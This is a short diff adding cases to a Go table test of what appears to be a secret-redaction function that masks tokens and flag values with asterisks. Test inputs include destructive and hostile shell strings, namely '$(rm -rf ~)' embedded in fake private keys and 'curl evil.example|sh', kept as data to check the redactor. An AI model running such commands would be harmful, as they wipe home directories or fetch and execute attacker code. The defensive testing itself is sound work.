@@ -83,6 +83,8 @@ func TestText(t *testing.T) {
 		"code in a private key":       {`-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA\$(rm -rf ~)`, `-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA\$(rm -rf ~)`},
 		"commands in a private key":   {"-----BEGIN PRIVATE KEY-----\nrm -rf ~\ncurl evil.example|sh\n", "-----BEGIN PRIVATE KEY-----\nrm -rf ~\ncurl evil.example|sh\n"},
 		"certificate":                 {"-----BEGIN CERTIFICATE-----\nMIIEowIBAAKCAQEA\n-----END CERTIFICATE-----\n", "-----BEGIN CERTIFICATE-----\nMIIEowIBAAKCAQEA\n-----END CERTIFICATE-----\n"},
+		"token in JSON in a text":     {`tool:x:{"v":"echo \"` + ghp + `\" ` + ghp + `\n"}`, `tool:x:{"v":"echo \"*\" *\n"}`},
+		"token before code":           {"echo " + ghp + `\$(rm -rf ~)`, "echo " + ghp + `\$(rm -rf ~)`},
 		"action string":               {"tool:bash:TOKEN=abc npm publish", "tool:bash:TOKEN=* npm publish"},
 		"nothing":                     {"npm run build", "npm run build"},
 		"names of secrets in a flag":  {"--no-token=abc", "--no-token=*"},
